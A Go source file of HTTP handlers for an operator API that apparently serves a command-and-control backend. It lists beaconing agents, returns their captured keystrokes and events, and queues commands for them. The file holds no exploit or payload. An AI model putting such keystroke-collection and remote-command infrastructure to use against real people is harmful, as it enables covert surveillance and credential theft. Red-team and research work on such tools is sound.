package handler

import (
	"encoding/json"
	"errors"
	"net/http"
	"strconv"

	"github.com/gin-gonic/gin"

	"github.com/outfleet/beacon/internal/api/http/dto"
	"github.com/outfleet/beacon/internal/command"
	"github.com/outfleet/beacon/internal/session"
	"github.com/outfleet/beacon/internal/telemetry"
)

const defaultQueryLimit = 100

// OperatorHandler serves the read-mostly query surface plus command
// enqueueing.
type OperatorHandler struct {
	sessions *session.Store
	commands *command.Queue
}

func NewOperatorHandler(sessions *session.Store, commands *command.Queue) *OperatorHandler {
	return &OperatorHandler{
		sessions: sessions,
		commands: commands,
	}
}

// Status returns the aggregate per-agent summary. Always answers, even
// when every agent is unreachable; staleness shows in last_seen.
// GET /status
func (h *OperatorHandler) Status(c *gin.Context) {
	snapshots := h.sessions.List()

	agents := make(map[string]dto.AgentSummary, len(snapshots))
	for _, snap := range snapshots {
		agents[snap.AgentID] = dto.AgentSummary{
			DisplayName:    snap.DisplayName,
			FirstSeen:      snap.FirstSeen,
			LastSeen:       snap.LastSeen,
			TotalCallbacks: snap.TotalCallbacks,
			EventCount:     len(snap.Events),
			KeystrokeCount: len(snap.Keystrokes),
			Status:         snap.Status,
		}
	}

	c.JSON(http.StatusOK, dto.StatusResponse{Agents: agents, Count: len(agents)})
}

// Events returns the most recent buffered events for one agent.
// GET /events/:agent_id?limit=N
func (h *OperatorHandler) Events(c *gin.Context) {
	h.recent(c, h.sessions.RecentEvents)
}

// Keystrokes returns the most recent buffered keystrokes for one agent.
// GET /keystrokes/:agent_id?limit=N
func (h *OperatorHandler) Keystrokes(c *gin.Context) {
	h.recent(c, h.sessions.RecentKeystrokes)
}

func (h *OperatorHandler) recent(c *gin.Context, fetch func(string, int) ([]telemetry.Event, error)) {
	agentID := c.Param("agent_id")

	limit := defaultQueryLimit
	if raw := c.Query("limit"); raw != "" {
		parsed, err := strconv.Atoi(raw)
		if err != nil || parsed < 0 {
			c.JSON(http.StatusBadRequest, gin.H{"error": "invalid limit"})
			return
		}
		limit = parsed
	}

	events, err := fetch(agentID, limit)
	if err != nil {
		if errors.Is(err, session.ErrSessionNotFound) {
			c.JSON(http.StatusNotFound, gin.H{"error": "unknown agent"})
			return
		}
		c.JSON(http.StatusInternalServerError, gin.H{"error": "internal error"})
		return
	}

	c.JSON(http.StatusOK, dto.EventsResponse{
		AgentID: agentID,
		Events:  events,
		Count:   len(events),
	})
}

// EnqueueCommand queues an opaque command for a known agent and echoes it
// with its assigned id. It never creates a session.
// POST /command/:agent_id
func (h *OperatorHandler) EnqueueCommand(c *gin.Context) {
	agentID := c.Param("agent_id")

	if _, err := h.sessions.Get(agentID); err != nil {
		c.JSON(http.StatusNotFound, gin.H{"error": "unknown agent"})
		return
	}

	payload, err := c.GetRawData()
	if err != nil {
		c.JSON(http.StatusBadRequest, gin.H{"error": "unreadable body"})
		return
	}
	if len(payload) == 0 || !json.Valid(payload) {
		c.JSON(http.StatusBadRequest, gin.H{"error": "command payload must be valid JSON"})
		return
	}

	cmd := h.commands.Enqueue(agentID, payload)

	c.JSON(http.StatusOK, dto.EnqueueCommandResponse{Status: "queued", Command: cmd})
}
